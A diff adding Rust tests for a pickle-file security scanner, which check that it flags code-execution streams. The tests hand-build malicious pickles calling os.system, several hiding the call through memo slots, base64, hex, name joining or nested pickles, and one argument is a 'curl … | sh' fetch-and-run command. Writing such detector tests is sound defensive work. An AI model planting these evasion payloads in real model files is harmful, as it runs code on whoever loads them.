@@ -1,0 +1,432 @@
+//! What streams do to the verdict, as values: one pickle built in code, the findings it must and must not give.
+
+use super::{Literal, Pickle, follow};
+use crate::{Format, Input, Limits, Recognition, Scan};
+use bartizan_core::{Finding, MonotonicClock, Severity};
+use proptest::prelude::*;
+
+struct Outcome {
+    findings: Vec<Finding>,
+    gaps: usize,
+}
+
+fn within(read: impl FnOnce(&mut Scan<'_>)) -> Outcome {
+    let (limits, clock) = (Limits::default(), MonotonicClock::start());
+    let mut scan = Scan::new(&limits, &clock);
+    read(&mut scan);
+    Outcome { findings: scan.findings().to_vec(), gaps: scan.gap_count() }
+}
+
+/// Scans `bytes` as a pickle whatever they look like.
+fn scanned(bytes: &[u8]) -> Outcome {
+    within(|scan| Pickle.scan(&Input::new("test.pkl", bytes), scan))
+}
+
+fn worst(bytes: &[u8]) -> Option<Severity> {
+    scanned(bytes).findings.iter().map(|finding| finding.severity).max()
+}
+
+/// Whether `rule` was reported at `severity` or worse with `text` in its message.
+#[track_caller]
+fn reports(bytes: &[u8], rule: &str, severity: Severity, text: &str) {
+    let outcome = scanned(bytes);
+    let found = outcome.findings.iter().any(|finding| {
+        finding.rule.id == format!("model/{rule}")
+            && finding.severity >= severity
+            && finding.message.contains(text)
+    });
+    assert!(found, "no {rule} {severity} with `{text}` among {:#?}", outcome.findings);
+}
+
+/// Builds protocol 4 streams.
+#[derive(Clone, Default)]
+struct Builder(Vec<u8>);
+
+impl Builder {
+    fn new() -> Self {
+        Self(vec![0x80, 4])
+    }
+
+    fn raw(mut self, bytes: &[u8]) -> Self {
+        self.0.extend(bytes);
+        self
+    }
+
+    fn text(self, text: &str) -> Self {
+        let length = u32::try_from(text.len()).unwrap().to_le_bytes();
+        self.raw(b"X").raw(&length).raw(text.as_bytes())
+    }
+
+    fn bytes(self, bytes: &[u8]) -> Self {
+        let length = u32::try_from(bytes.len()).unwrap().to_le_bytes();
+        self.raw(b"B").raw(&length).raw(bytes)
+    }
+
+    fn import(self, module: &str, name: &str) -> Self {
+        self.text(module).text(name).raw(b"\x93")
+    }
+
+    /// `module.name(*texts)`.
+    fn call(self, module: &str, name: &str, texts: &[&str]) -> Self {
+        let start = self.import(module, name).raw(b"(");
+        texts.iter().fold(start, |builder, text| builder.text(text)).raw(b"tR")
+    }
+
+    fn stop(self) -> Vec<u8> {
+        self.raw(b".").0
+    }
+}
+
+#[test]
+fn every_way_to_call_is_seen() {
+    let call =
+        |stream: &[u8]| reports(stream, "pickle-code-execution", Severity::Critical, "os.system(\"id\")");
+    call(b"cos\nsystem\n(S'id'\ntR.");
+    call(b"(S'id'\nios\nsystem\n.");
+    call(b"(cos\nsystem\nS'id'\no.");
+    call(b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85\x81.");
+    call(b"\x80\x04cos\nsystem\nX\x02\0\0\0id\x85}\x92.");
+    call(b"\x80\x04X\x02\0\0\0osX\x06\0\0\0system\x93X\x02\0\0\0id\x85R.");
+    call(b"cos\nsystem\n(V\\u0069d\ntR.");
+}
+
+#[test]
+fn a_call_whose_result_is_popped_still_ran() {
+    reports(b"(cos\nsystem\nS'id'\no0N.", "pickle-code-execution", Severity::Critical, "os.system");
+    reports(b"((cos\nsystem\nS'id'\no1N.", "pickle-code-execution", Severity::Critical, "os.system");
+}
+
+#[test]
+fn a_call_before_the_breaking_opcode_ran_and_the_tail_is_a_gap() {
+    for tail in [&b"\xff"[..], b"0000", b"h\x63.", b"X\xff\0\0\0", b"\x80\x09.", b"", b"u.", b"Iseven\n."] {
+        let stream = [b"cos\nsystem\n(S'id'\ntR", tail].concat();
+        let outcome = scanned(&stream);
+        assert!(outcome.gaps > 0, "{tail:?}");
+        reports(&stream, "pickle-code-execution", Severity::Critical, "os.system");
+        reports(&stream, "pickle-broken-stream", Severity::Medium, "fails at offset");
+    }
+}
+
+#[test]
+fn memo_slots_give_what_was_last_written() {
+    let decoy =
+        b"\x80\x04X\x04\0\0\0jsonq\x000X\x02\0\0\0osq\x000h\x00X\x06\0\0\0system\x93X\x02\0\0\0id\x85R.";
+    reports(decoy, "pickle-code-execution", Severity::Critical, "os.system");
+    let harmless =
+        b"\x80\x04X\x02\0\0\0osq\x000X\x0b\0\0\0collectionsq\x000h\x00X\x0b\0\0\0OrderedDict\x93)R.";
+    assert_eq!(worst(harmless), None);
+}
+
+#[test]
+fn values_memoised_beyond_the_kept_slots_come_back_when_they_matter() {
+    let mut stream = vec![0x80, 4];
+    stream.extend([b"N\x940".repeat(600_000), b"\x8c\x02os\x940\x8c\x06system\x940".to_vec()].concat());
+    stream.extend(b"N\x940".repeat(600_000));
+    stream.extend(b"j\xc0\x27\x09\0j\xc1\x27\x09\0\x93\x8c\x02id\x85R.");
+    reports(&stream, "pickle-code-execution", Severity::Critical, "os.system(\"id\")");
+}
+
+#[test]
+fn names_put_together_by_calls_are_folded() {
+    let joined = Builder::new()
+        .import("builtins", "getattr")
+        .raw(b"(")
+        .call("importlib", "import_module", &["os"])
+        .import("builtins", "str.join")
+        .raw(b"(")
+        .text("")
+        .raw(b"]")
+        .raw(b"(")
+        .text("sys")
+        .text("tem")
+        .raw(b"etR")
+        .raw(b"tR")
+        .text("id")
+        .raw(b"\x85R")
+        .stop();
+    reports(&joined, "pickle-code-execution", Severity::Critical, "os.system(\"id\")");
+    reports(&joined, "pickle-hidden-call", Severity::High, "os.system");
+
+    let encoded = Builder::new()
+        .call("base64", "b64decode", &["b3M="])
+        .raw(b"0")
+        .import("builtins", "str")
+        .raw(b"(")
+        .call("base64", "b64decode", &["b3M="])
+        .text("ascii")
+        .raw(b"tR")
+        .text("system")
+        .raw(b"\x93")
+        .text("id")
+        .raw(b"\x85R")
+        .stop();
+    reports(&encoded, "pickle-code-execution", Severity::Critical, "os.system");
+}
+
+#[test]
+fn module_tables_getters_and_partials_lead_to_what_they_give() {
+    let table = Builder::new()
+        .import("operator", "getitem")
+        .raw(b"(")
+        .import("sys", "modules")
+        .text("os")
+        .raw(b"tR")
+        .raw(b"q\x010")
+        .import("operator", "methodcaller")
+        .raw(b"(")
+        .text("system")
+        .text("id")
+        .raw(b"tR")
+        .raw(b"h\x01\x85R")
+        .stop();
+    reports(&table, "pickle-code-execution", Severity::Critical, "os.system(\"id\")");
+    let partial = Builder::new()
+        .import("functools", "partial")
+        .raw(b"(")
+        .import("os", "system")
+        .text("id")
+        .raw(b"tR)R")
+        .stop();
+    reports(&partial, "pickle-code-execution", Severity::Critical, "os.system(\"id\")");
+}
+
+#[test]
+fn a_dangerous_callable_handed_to_a_safe_one_counts() {
+    let stream =
+        Builder::new().import("collections", "defaultdict").import("os", "system").raw(b"\x85R").stop();
+    reports(&stream, "pickle-dangerous-reference", Severity::High, "hands `os.system`");
+}
+
+#[test]
+fn a_dangerous_reference_without_a_call_is_a_lesser_finding() {
+    let stream = Builder::new().import("os", "system").stop();
+    reports(&stream, "pickle-dangerous-reference", Severity::Low, "without calling it");
+    assert!(worst(&stream) < Some(Severity::Critical));
+}
+
+#[test]
+fn a_name_that_cannot_be_known_is_hidden() {
+    let stream = Builder::new().call("app", "name", &[]).text("x").raw(b"\x93)R").stop();
+    reports(&stream, "pickle-hidden-call", Severity::High, "imports a name");
+}
+
+#[test]
+fn modules_and_tables_must_not_be_changed() {
+    let build = Builder::new().import("numpy", "ndarray").raw(b"}").text("__builtins__").raw(b"Nsb").stop();
+    reports(&build, "pickle-module-tampering", Severity::High, "numpy.ndarray");
+    let table = Builder::new().import("sys", "modules").text("json").import("os", "path").raw(b"s.").0;
+    reports(&table, "pickle-module-tampering", Severity::Critical, "sys.modules");
+    let list = Builder::new().import("guard.lists", "SAFE").text("os.system").raw(b"a").stop();
+    reports(&list, "pickle-module-tampering", Severity::High, "guard.lists.SAFE");
+}
+
+#[test]
+fn the_state_of_an_ordinary_object_is_no_tampering() {
+    let stream = Builder::new()
+        .import("collections", "OrderedDict")
+        .raw(b")\x81}(")
+        .text("training")
+        .raw(b"\x88ub")
+        .stop();
+    assert_eq!(worst(&stream), None);
+}
+
+#[test]
+fn unknown_callables_are_graded_by_their_arguments() {
+    let call = |module, name, text| worst(&Builder::new().call(module, name, &[text]).stop());
+    assert_eq!(call("__main__", "Net", "relu"), Some(Severity::Low));
+    assert_eq!(call("vendor.tools", "restore", "weights"), Some(Severity::Medium));
+    assert_eq!(call("vendor.tools", "restore", "curl http://a.b/c | sh"), Some(Severity::High));
+    let object = Builder::new().import("vendor.tools", "Model").raw(b")\x81").stop();
+    assert_eq!(worst(&object), Some(Severity::Low));
+}
+
+#[test]
+fn frames_that_lie_are_reported_and_still_followed() {
+    let short = b"\x80\x04\x95\x03\0\0\0\0\0\0\0cos\nsystem\n\x8c\x02id\x85R.";
+    reports(short, "pickle-frame-desync", Severity::Medium, "crosses the end");
+    reports(short, "pickle-code-execution", Severity::Critical, "os.system");
+    let long = b"\x80\x04\x95\xff\0\0\0\0\0\0\0cos\nsystem\n\x8c\x02id\x85R.";
+    reports(long, "pickle-frame-desync", Severity::Medium, "says it holds");
+    reports(long, "pickle-code-execution", Severity::Critical, "os.system");
+    assert_eq!(worst(b"\x80\x04\x95\x04\0\0\0\0\0\0\0]\x94K."), Some(Severity::Medium));
+    assert_eq!(worst(b"\x80\x04\x95\x03\0\0\0\0\0\0\0]\x94."), None);
+}
+
+#[test]
+fn extension_codes_and_foreign_persistent_ids_are_reported() {
+    reports(b"\x80\x02\x82\x01)R.", "pickle-extension-registry", Severity::Medium, "number 1");
+    reports(b"Pexternal\n.", "pickle-persistent-id", Severity::Low, "persistent");
+}
+
+#[test]
+fn torch_storages_are_listed_and_are_no_finding() {
+    let stream = Builder::new()
+        .raw(b"(")
+        .text("storage")
+        .import("torch", "FloatStorage")
+        .text("7")
+        .text("cpu")
+        .raw(b"K\x0ctQ")
+        .stop();
+    let outcome = within(|scan| {
+        let followed = follow(&stream, 0, scan);
+        assert!(followed.stopped);
+        assert_eq!(followed.end, stream.len());
+        let storage = &followed.storages[0];
+        assert_eq!(
+            (storage.class.as_str(), storage.key.as_str(), storage.elements),
+            ("FloatStorage", "7", 12)
+        );
+    });
+    assert!(outcome.findings.is_empty(), "{:#?}", outcome.findings);
+}
+
+#[test]
+fn results_that_containers_look_at_are_given() {
+    within(|scan| {
+        let magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.";
+        assert_eq!(follow(magic, 0, scan).result, Literal::Int(0x1950_a86a_20f9_469c_fc6c));
+        let keys = b"\x80\x02](X\x01\0\0\00X\x01\0\0\01e.";
+        assert_eq!(follow(keys, 0, scan).result, Literal::TextList(vec!["0".into(), "1".into()]));
+    });
+}
+
+#[test]
+fn pickles_behind_pickles_and_separators_are_followed() {
+    let evil = b"cos\nsystem\n(S'id'\ntR.";
+    for between in [&b""[..], b"\n\n", b"--- next ---", b"\0\0\0\0"] {
+        let stream = [b"\x80\x02N.", between, evil].concat();
+        reports(&stream, "pickle-code-execution", Severity::Critical, "os.system");
+    }
+    let far =
+        [b"\x80\x02N.".to_vec(), vec![7; 5000], b"\x80\x04cos\nsystem\n\x8c\x02id\x85R.".to_vec()].concat();
+    reports(&far, "pickle-code-execution", Severity::Critical, "os.system");
+}
+
+#[test]
+fn pickles_inside_strings_are_found_through_encodings() {
+    let inner = b"\x80\x04cos\nsystem\n\x8c\x02id\x85R.";
+    let raw = Builder::new().bytes(inner).stop();
+    reports(&raw, "pickle-nested", Severity::Low, "holds a pickle");
+    reports(&raw, "pickle-code-execution", Severity::Critical, "os.system");
+    let hex = bartizan_core::hex(inner);
+    reports(&Builder::new().text(&hex).stop(), "pickle-code-execution", Severity::Critical, "os.system");
+    reports(
+        &Builder::new().text("gARjb3MKc3lzdGVtCowCaWSFUi4=").stop(),
+        "pickle-code-execution",
+        Severity::Critical,
+        "os.system",
+    );
+    let words = Builder::new().text("gAR is how encoded pickles begin").stop();
+    assert_eq!(worst(&words), None);
+}
+
+#[test]
+fn shared_containers_that_explode_are_reported() {
+    let mut stream = b"\x80\x04]q\x00".to_vec();
+    for _ in 0..40 {
+        stream.extend(b"(h\x00h\x00lq\x00");
+    }
+    stream.push(b'.');
+    reports(&stream, "pickle-expansion", Severity::Medium, "stand for");
+    let slot = b"\x80\x04Nr\xff\xff\xff\x7f.";
+    reports(slot, "pickle-expansion", Severity::Medium, "Memo slot");
+}
+
+#[test]
+fn arrays_of_joblib_are_skipped_and_the_stream_goes_on() {
+    let wrapper = |kind: &str, flags: &str| {
+        Builder::new()
+            .import("joblib.numpy_pickle", "NumpyArrayWrapper")
+            .raw(b")\x81}(")
+            .text("dtype")
+            .import("numpy", "dtype")
+            .raw(b"(")
+            .text(kind)
+            .raw(b"\x89\x88tR(K\x03X\x01\0\0\0<NNN")
+            .raw(flags.as_bytes())
+            .raw(b"tb")
+            .text("shape")
+            .raw(b"K\x02\x85")
+            .text("numpy_array_alignment_bytes")
+            .raw(b"K\x10ub")
+    };
+    let array = wrapper("f8", "J\u{0}\u{0}\u{0}\u{0}K\u{1}K\u{0}")
+        .raw(b"\x03\xff\xff\xff")
+        .raw(&[0xff; 16])
+        .raw(b"0cos\nsystem\n\x8c\x02id\x85R")
+        .stop();
+    reports(&array, "pickle-code-execution", Severity::Critical, "os.system");
+    assert_eq!(scanned(&array).gaps, 0);
+    let objects =
+        wrapper("O8", "J\u{0}\u{0}\u{0}\u{0}K\u{1}K?").raw(b"\x80\x04cos\nsystem\n\x8c\x02id\x85R.").stop();
+    reports(&objects, "pickle-code-execution", Severity::Critical, "os.system");
+    assert_eq!(scanned(&objects).gaps, 0);
+}
+
+#[test]
+fn text_is_no_pickle() {
+    for text in [
+        "import os\nprint(1)\n",
+        "{\"a\": [1, 2, 3]}",
+        "(a, b)\n(c, d)\n",
+        "collections of things\nand more\n.",
+        "I am a text.\nSo am I.\n",
+        "}\n",
+        "]",
+        "Name,Value\n1,2\n",
+        "class A:\n    pass\n",
+    ] {
+        let input = Input::new("a.txt", text.as_bytes());
+        assert_eq!(Pickle.recognise(&input), Recognition::No, "{text}");
+    }
+    for stream in [&b"cos\nsystem\n(S'id'\ntR."[..], b"\x80\x02N.", b"(lp0\nI1\na.", b"(dp0\nS'a'\nI1\ns."] {
+        let input = Input::new("a.txt", stream);
+        assert_eq!(Pickle.recognise(&input), Recognition::Certain, "{stream:?}");
+    }
+}
+
+/// Streams whose mutations reach deep into the machine.
+fn seeds() -> Vec<Vec<u8>> {
+    vec![
+        b"cos\nsystem\n(S'id'\ntR.".to_vec(),
+        b"(S'id'\nios\nsystem\n.".to_vec(),
+        Builder::new().call("builtins", "getattr", &["os", "system"]).raw(b"q\x01h\x01b2e").stop(),
+        Builder::new().import("functools", "partial").raw(b"(").import("builtins", "map").raw(b"tR)R").stop(),
+        b"\x80\x04\x95\x10\0\0\0\0\0\0\0]\x94(K\x01K\x02K\x03e(dN\x88sl\x90\x91.".to_vec(),
+    ]
+}
+
+proptest! {
+    #[test]
+    fn any_bytes_are_scanned_without_panic(bytes: Vec<u8>) {
+        let _ = scanned(&bytes);
+    }
+
+    #[test]
+    fn mutated_streams_are_scanned_without_panic(
+        seed in 0usize..5,
+        edits in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..8),
+        cut in any::<prop::sample::Index>(),
+    ) {
+        let mut bytes = seeds().swap_remove(seed);
+        for (place, byte) in edits {
+            let index = place.index(bytes.len());
+            bytes[index] = byte;
+        }
+        bytes.truncate(cut.index(bytes.len()) + 1);
+        let _ = scanned(&bytes);
+    }
+
+    #[test]
+    fn opcode_soup_is_scanned_without_panic(
+        picks in prop::collection::vec((0usize..68, any::<u8>()), 0..200),
+    ) {
+        let mut bytes = vec![0x80, 4];
+        for (pick, operand) in picks {
+            bytes.extend([super::opcodes::OPCODES[pick].code, operand % 8]);
+        }
+        let _ = scanned(&bytes);
+    }
+}
